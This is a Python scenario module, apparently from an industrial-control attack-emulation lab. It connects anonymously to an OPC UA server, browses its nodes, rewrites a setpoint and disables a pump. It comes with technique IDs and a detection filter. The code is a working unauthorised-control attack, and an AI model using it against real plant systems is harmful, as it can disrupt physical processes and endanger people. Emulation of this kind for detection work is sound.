"""An anonymous OPC UA client walks the address space, then writes."""

from __future__ import annotations

import contextlib

from asyncua import Client, ua

from ..devices.opcua_server import NAMESPACE_URI
from ..node import Node

TITLE = "Anonymous OPC UA client browses the address space and writes setpoint and pump"
TECHNIQUES = ("T1692.001", "T0861", "T0836")
ORIGIN = "laptop"
ENTITIES = ("laptop", "ipc-metering")
EVIDENCE = "opcua.servicenodeid.numeric in {527, 673} && ip.src == 10.20.1.99"


async def run(node: Node) -> None:
    """Endpoints, browse two levels, three writes."""
    url = f"opc.tcp://{node.peer('ipc-metering')}:4840/"
    client = Client(url, timeout=3)
    client.application_uri = "urn:freeopcua:client"
    with contextlib.suppress(Exception):
        await client.connect_and_get_server_endpoints()
    async with client:
        for top in await client.nodes.objects.get_children():
            for child in (await top.get_children())[:12]:
                await child.read_browse_name()
        index = await client.get_namespace_index(NAMESPACE_URI)
        for name, value in (("Setpoint", 96.0), ("PumpEnable", False), ("Setpoint", 20.0)):
            target = client.get_node(ua.NodeId(name, index))
            await target.write_value(value)
            node.pause(0.5)
